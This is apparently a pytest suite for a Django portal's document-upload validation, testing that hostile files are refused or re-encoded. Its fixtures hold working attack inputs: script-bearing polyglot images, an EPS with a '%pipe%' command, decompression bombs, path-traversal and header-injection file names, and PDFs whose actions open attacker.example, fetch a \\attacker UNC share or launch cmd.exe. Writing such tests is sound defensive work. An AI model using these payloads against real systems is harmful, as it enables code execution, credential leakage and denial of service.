"""Hostile uploads through the real application form: the type is decided by content, images are re-encoded, and
what is stored and served back carries nothing of the attacker's but the pixels."""

import io
import os
import struct
import time
import zipfile
import zlib

import pytest
from django.conf import settings
from django.urls import reverse
from PIL import Image, PngImagePlugin

from certificates import services
from portal.documents.models import Document
from portal.documents.services import document_create

from .conftest import portrait_bytes, upload
from .payloads import decompression_bomb_pdf

pytestmark = pytest.mark.django_db

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


@pytest.fixture
def draft(client, citizen, station_a):
    client.force_login(citizen)
    return services.application_create_draft(applicant=citizen, for_self=True, office=station_a)


def post_documents(client, application, action="leave", **files):
    """Post the documents page; `action` "next" continues (a refusal answers 400), "leave" saves the draft and goes."""
    url = reverse("certificates:section", kwargs={"case_number": application.case_number, "section": "documents"})
    return client.post(url, {"action": action, **files})


def stored(kind=None):
    documents = Document.objects.all() if kind is None else Document.objects.filter(kind=kind)
    return [(d, d.file.open("rb").read()) for d in documents]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(width=50000, height=50000) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


def pixel_flood_jpeg() -> bytes:
    # A real JPEG header whose frame claims 65000 × 65000 pixels.
    data = bytearray(portrait_bytes(fmt="JPEG"))
    pos = 2
    while data[pos + 1] not in (0xC0, 0xC2):
        pos += 2 + struct.unpack(">H", data[pos + 2 : pos + 4])[0]
    data[pos + 5 : pos + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def with_gps_exif(fmt="JPEG") -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SpyPhone"
    exif[0x8825] = {1: "N", 2: (34.0, 45.0, 12.0), 3: "E", 4: (113.0, 39.0, 54.0)}
    data = portrait_bytes(fmt=fmt, exif=exif.tobytes())
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825), "the fixture carries GPS"
    return data


def jpeg_with_comment(comment: bytes) -> bytes:
    data = portrait_bytes(fmt="JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", SCRIPT)
        archive.writestr("payload.jar", b"\xca\xfe\xba\xbe")
    return out.getvalue()


def eps_bytes() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 500\n(%pipe%id) (w) file\nshowpage\n"


def tiff_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 500), (200, 30, 30)).save(out, format="TIFF")
    return out.getvalue()


def minimal_pdf(extra: bytes = b"") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue() + extra


# --- polyglots: accepted as images, stored as nothing but pixels ---------------------------------------

POLYGLOTS = {
    "jpeg_plus_html": (lambda: portrait_bytes(fmt="JPEG") + SCRIPT, "photo.jpg", "image/jpeg"),
    "jpeg_comment_with_html": (lambda: jpeg_with_comment(SCRIPT), "photo.jpg", "image/jpeg"),
    "png_plus_zip": (lambda: portrait_bytes() + zip_bytes(), "photo.png", "image/png"),
    "png_text_chunk_with_html": (
        lambda: portrait_bytes(pnginfo=_text_info(SCRIPT.decode())),
        "photo.png",
        "image/png",
    ),
}


def _text_info(text):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return info


@pytest.mark.parametrize("make,name,content_type", POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_polyglot_image_is_reencoded_to_pixels_only(client, draft, make, name, content_type):
    data = make()
    response = post_documents(client, draft, photo=upload(name, data, content_type))
    assert response.status_code == 302, response.content.decode()[:2000]
    ((document, content),) = stored("photo")
    for marker in (b"<script", b"<html", b"PK\x03\x04", b"payload.jar", b"alert"):
        assert marker not in content
    assert content != data
    assert Image.open(io.BytesIO(content)).size == (400, 500)
    download = client.get(document.get_absolute_url())
    assert download["Content-Type"] == document.mime_type
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["Content-Security-Policy"] == "sandbox"
    assert b"".join(download.streaming_content) == content


def test_pdf_with_html_appended_is_served_only_as_a_sandboxed_attachment(client, draft):
    response = post_documents(client, draft, id_front=upload("front.pdf", minimal_pdf(SCRIPT), "application/pdf"))
    assert response.status_code == 302
    ((document, _content),) = stored("id_front")
    download = client.get(document.get_absolute_url() + "?inline=1")  # a citizen never gets inline
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff" and download["Content-Security-Policy"] == "sandbox"


# --- refused by content, whatever the name ------------------------------------------------------------

WRONG_TYPES = {
    "eps_named_jpg": ("photo", eps_bytes, "photo.jpg", "image/jpeg", "PostScript/EPS file"),
    "tiff_named_jpg": ("photo", tiff_bytes, "photo.jpg", "image/jpeg", "TIFF image"),
    "svg_named_png": (
        "photo",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        "photo.png",
        "image/png",
        "SVG drawing",
    ),
    "html_named_png": ("photo", lambda: SCRIPT, "photo.png", "image/png", "web page (HTML)"),
    "html_with_bom_named_jpg": (
        "id_front",
        lambda: b"\xef\xbb\xbf  \r\n" + SCRIPT,
        "front.jpg",
        "image/jpeg",
        "web page (HTML)",
    ),
    "zip_named_pdf": ("id_front", zip_bytes, "front.pdf", "application/pdf", "ZIP archive"),
    "gif_named_png": (
        "photo",
        lambda: b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + SCRIPT,
        "photo.png",
        "image/png",
        "GIF image",
    ),
    "pdf_with_javascript_named_jpg": (
        "id_front",
        lambda: minimal_pdf(b"\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"),
        "front.jpg",
        "image/jpeg",
        "contains scripts",
    ),
}


@pytest.mark.parametrize("field,make,name,content_type,message", WRONG_TYPES.values(), ids=WRONG_TYPES.keys())
def test_wrong_type_is_refused_by_content(client, draft, field, make, name, content_type, message):
    response = post_documents(client, draft, "next", **{field: upload(name, make(), content_type)})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Document.objects.exists()
    assert not [p for p in (settings.MEDIA_ROOT / "private").rglob("*") if p.is_file()]  # no file left behind


def test_pdf_decompression_bomb_is_refused_quickly(client, draft):
    data = decompression_bomb_pdf()
    assert len(data) < 200_000
    started = time.perf_counter()
    response = post_documents(client, draft, "next", id_front=upload("front.pdf", data, "application/pdf"))
    assert time.perf_counter() - started < 10
    assert response.status_code == 400
    assert "damaged or incomplete" in response.content.decode()
    assert not Document.objects.exists()


@pytest.mark.parametrize("make", [pixel_flood_png, pixel_flood_jpeg], ids=["png_50000x50000", "jpeg_65000x65000"])
def test_pixel_flood_is_refused_from_the_header_without_decoding(client, draft, make):
    started = time.perf_counter()
    response = post_documents(client, draft, "next", photo=upload("photo.png", make()))
    assert time.perf_counter() - started < 2.0
    assert response.status_code == 400
    assert "megapixels accepted" in response.content.decode()
    assert not Document.objects.exists()


# --- names, several files, fields that are not there ---------------------------------------------------

TRAVERSAL_NAMES = {
    "dot_dot_slash": "../../../../etc/cron.d/evil.png",
    "dot_dot_backslash": "..\\..\\..\\Windows\\System32\\evil.png",
    "absolute_path": "/var/www/static/evil.png",
}


@pytest.mark.parametrize("name", TRAVERSAL_NAMES.values(), ids=TRAVERSAL_NAMES.keys())
def test_path_traversal_name_never_reaches_the_disk(client, draft, tmp_path, name):
    before = {p for p in tmp_path.parent.rglob("evil*")}
    response = post_documents(client, draft, photo=upload(name, portrait_bytes()))
    assert response.status_code == 302
    ((document, _),) = stored("photo")
    assert document.original_name == "evil.png"
    private = (settings.MEDIA_ROOT / "private").resolve()
    path = document.file.path
    assert os.path.realpath(path).startswith(str(private) + os.sep)
    assert "evil" not in document.file.name and ".." not in document.file.name
    assert {p for p in tmp_path.parent.rglob("evil*")} == before


def test_hostile_file_name_cannot_inject_headers_or_markup(client, draft, citizen):
    name = 'a"; filename="evil.html"\r\nSet-Cookie: pwned=1\r\n<script>alert(1)</script>.png'
    document = document_create(owner=citizen, uploaded_file=upload(name, portrait_bytes()), kind="photo")
    response = client.get(document.get_absolute_url())
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert not disposition.rstrip('"').endswith(".html") and disposition.endswith('.png"')
    assert "pwned" not in response.cookies
    assert "<" not in document.original_name and '"' not in document.original_name


@pytest.mark.parametrize("order", ["hostile_first", "hostile_last"])
def test_several_files_in_one_field_store_at_most_one_validated_image(client, draft, order):
    good = upload("good.png", portrait_bytes())
    evil = upload("evil.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    files = [evil, good] if order == "hostile_first" else [good, evil]
    response = post_documents(client, draft, photo=files)
    documents = stored()
    assert len(documents) <= 1
    for document, content in documents:
        assert content.startswith(b"\x89PNG") and b"<svg" not in content and document.original_name == "good.png"
    if response.status_code == 400:
        assert not documents


def test_an_upload_under_a_field_the_form_does_not_have_is_ignored(client, draft):
    # A for-self application has no authorisation or passport upload: posting one stores nothing.
    response = post_documents(
        client,
        draft,
        authorisation=upload("auth.png", portrait_bytes()),
        passport=upload("passport.png", portrait_bytes()),
        photo=upload("photo.png", portrait_bytes()),
    )
    assert response.status_code == 302
    assert sorted(Document.objects.values_list("kind", flat=True)) == ["photo"]


# --- metadata ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_gps_exif_is_gone_from_the_stored_and_downloaded_file(client, draft, fmt):
    data = with_gps_exif(fmt)
    response = post_documents(client, draft, photo=upload(f"photo.{fmt.lower()}", data))
    assert response.status_code == 302
    ((document, _),) = stored("photo")
    served = b"".join(client.get(document.get_absolute_url()).streaming_content)
    assert b"SpyPhone" not in served and b"Exif" not in served and b"eXIf" not in served
    image = Image.open(io.BytesIO(served))
    assert not image.getexif() and not image.getexif().get_ifd(0x8825)
    assert "exif" not in image.info


def test_right_to_left_override_in_a_file_name_cannot_disguise_its_type(client, draft):
    response = post_documents(client, draft, photo=upload("photo\u202egnp.exe", portrait_bytes()))
    assert response.status_code == 302
    ((document, _),) = stored("photo")
    assert "\u202e" not in document.original_name
    disposition = client.get(document.get_absolute_url())["Content-Disposition"]
    assert "%E2%80%AE" not in disposition.upper() and disposition.endswith('.png"')
    check = client.get(reverse("certificates:check", kwargs={"case_number": draft.case_number})).content.decode()
    assert "\u202e" not in check


# --- PDFs that act by themselves: refused, whatever the kind of action and wherever it hides ---------------


def pdf_of(objects: list[bytes], *, in_object_stream: tuple[int, ...] = ()) -> bytes:
    """A PDF written byte by byte: objects 1… are `objects` (1 is the catalog); those numbered in
    `in_object_stream` are packed into a compressed object stream with a cross-reference stream, as modern
    writers do, so that no byte scan can see them."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    packed = [n for n in range(1, len(objects) + 1) if n in in_object_stream]
    for number, body in enumerate(objects, start=1):
        if number in packed:
            continue
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = len(objects) + 1
    if packed:
        stream_number, size = size, size + 2
        header, bodies = b"", b""
        for index, number in enumerate(packed):
            header += b"%d %d " % (number, len(bodies))
            bodies += objects[number - 1] + b"\n"
            rows[number] = (2, stream_number, index)
        data = zlib.compress(header + bodies)
        rows[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            stream_number,
            len(packed),
            len(header),
            len(data),
        )
        out += data + b"\nendstream\nendobj\n"
        xref_number = stream_number + 1
        xref_at = len(out)
        rows[xref_number] = (1, xref_at, 0)
        xref = b"".join(struct.pack(">BIH", *rows[n]) for n in range(size))
        out += b"%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Index [0 %d] /Length %d >>\nstream\n" % (
            xref_number,
            size,
            size,
            len(xref),
        )
        out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % rows[n][1] for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
    return bytes(out)


def one_page(catalog=b"", page=b"", *more: bytes) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
        *more,
    ]


UNC = rb"(\\\\attacker\\share\\x.pdf)"  # the PDF string \\attacker\share\x.pdf
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>"

ACTIVE_PDFS = {
    "xfa_form_with_javascript": one_page(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>",
        b"",
        b'<< /Length 60 >>\nstream\n<xdp:xdp><script contentType="application/x-javascript">app.alert(1)'
        b"</script></xdp:xdp>\nendstream",
    ),
    "document_additional_action_uri": one_page(b"/AA << /WC << /S /URI /URI (https://attacker.example/) >> >>"),
    "page_additional_action_gotor_unc": one_page(b"", b"/AA << /O << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>"),
    "open_action_uri": one_page(b"/OpenAction << /S /URI /URI (https://attacker.example/) >>"),
    "open_action_goto_dictionary": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "link_annotation_uri": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /URI /URI (https://attacker.example/) >>"),
    "link_annotation_gotor_unc": one_page(b"", b"/Annots [4 0 R]", LINK % (b"<< /S /GoToR /F " + UNC + b" >>")),
    "link_annotation_launch": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /Launch /F (cmd.exe) >>"),
    "link_annotation_gotoe": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
    "action_chained_by_next": one_page(
        b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>"
    ),
    "form_field_submit_form": one_page(
        b"/AcroForm << /Fields [4 0 R] >>",
        b"/Annots [4 0 R]",
        b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://x.example/) >> >>",
    ),
    "form_field_additional_action_javascript": one_page(
        b"/AcroForm << /Fields [4 0 R] >>",
        b"/Annots [4 0 R]",
        b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /AA << /Fo << /S /JavaScript /JS 5 0 R >> >> >>",
        b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
    ),
    "import_data": one_page(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "rendition": one_page(
        b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>"
    ),
    "sound_action": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"),
    "movie_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Movie /Rect [0 0 9 9] /T (m) >>"),
    "screen_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /Screen /Rect [0 0 9 9] >>"),
    "three_d_annotation": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /3D /Rect [0 0 9 9] >>"),
    "file_attachment_annotation": one_page(
        b"", b"/Annots [4 0 R]", b"<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>"
    ),
    "rich_media": one_page(b"", b"/Annots [4 0 R]", b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "url_file_specification": one_page(
        b"",
        b"/Annots [4 0 R]",
        b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R] /F << /FS /URL /F (http://x.example/) >> >> >>",
    ),
    "javascript_name_tree": one_page(
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"
    ),
    "escaped_names_in_annotation": one_page(
        b"", b"/Annots [4 0 R]", LINK % b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    "escaped_uri_name": one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /U#52I /U#52I (https://x.example/) >>"),
    "escaped_additional_action_key": one_page(b"/#41A << /WC << /S /#55RI /URI (https://x.example/) >> >>"),
    "escaped_xfa_key": one_page(b"/AcroForm << /Fields [] /#58FA (<xdp/>) >>"),
    "unreferenced_object_with_javascript": one_page(b"", b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
}

# The same, but with the active objects packed in a compressed object stream.
PACKED_PDFS = {
    "link_uri_in_object_stream": (
        one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /URI /URI (https://attacker.example/) >>"),
        (4,),
    ),
    "gotor_unc_in_object_stream": (
        one_page(b"", b"/AA << /O 4 0 R >>", b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
        (3, 4),
    ),
    "catalog_with_xfa_in_object_stream": (one_page(b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"), (1, 2, 3)),
    "escaped_launch_in_object_stream": (one_page(b"/OpenAction 4 0 R", b"", b"<< /S /L#61unch /F (cmd.exe) >>"), (4,)),
}


@pytest.mark.parametrize("objects", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_pdf_with_active_content_is_refused(objects):
    from django.core.exceptions import ValidationError

    from portal.documents.validation import check_pdf

    with pytest.raises(ValidationError) as info:
        check_pdf(pdf_of(objects))
    assert info.value.code == "active_content"


@pytest.mark.parametrize("objects,packed", PACKED_PDFS.values(), ids=PACKED_PDFS.keys())
def test_pdf_with_active_content_in_an_object_stream_is_refused(objects, packed):
    from django.core.exceptions import ValidationError

    from portal.documents.validation import PDF_RAW_ACTIVE, check_pdf

    data = pdf_of(objects, in_object_stream=packed)
    assert b"attacker" not in data and not PDF_RAW_ACTIVE.search(data), "only the structural walk can see it"
    with pytest.raises(ValidationError) as info:
        check_pdf(data)
    assert info.value.code == "active_content"


PLAIN_PDFS = {
    "plain_page": (one_page(), ()),
    "opens_at_page_one": (one_page(b"/OpenAction [3 0 R /Fit]"), ()),
    "internal_link_goto": (one_page(b"", b"/Annots [4 0 R]", LINK % b"<< /S /GoTo /D [3 0 R /Fit] >>"), ()),
    "plain_fillable_form": (
        one_page(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [4 0 R]",
            b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /V (x) >>",
        ),
        (),
    ),
    "plain_page_in_object_stream": (one_page(), (1, 2, 3)),
}


@pytest.mark.parametrize("objects,packed", PLAIN_PDFS.values(), ids=PLAIN_PDFS.keys())
def test_plain_pdf_is_still_accepted(objects, packed):
    from portal.documents.validation import check_pdf

    check_pdf(pdf_of(objects, in_object_stream=packed))  # raises nothing


@pytest.mark.parametrize(
    "language,expected",
    [("en", "print it to a new, plain PDF"), ("zh-hans", "打印为PDF")],
)
def test_active_pdf_is_refused_through_the_form_with_advice_in_both_languages(client, draft, language, expected):
    from django.utils import translation

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    data = pdf_of(one_page(b"", b"/AA << /O << /S /GoToR /F " + UNC + b" >> >>"))
    with translation.override(language):
        response = post_documents(client, draft, "next", id_front=upload("front.pdf", data, "application/pdf"))
    assert response.status_code == 400
    assert expected in response.content.decode()
    assert not Document.objects.exists()
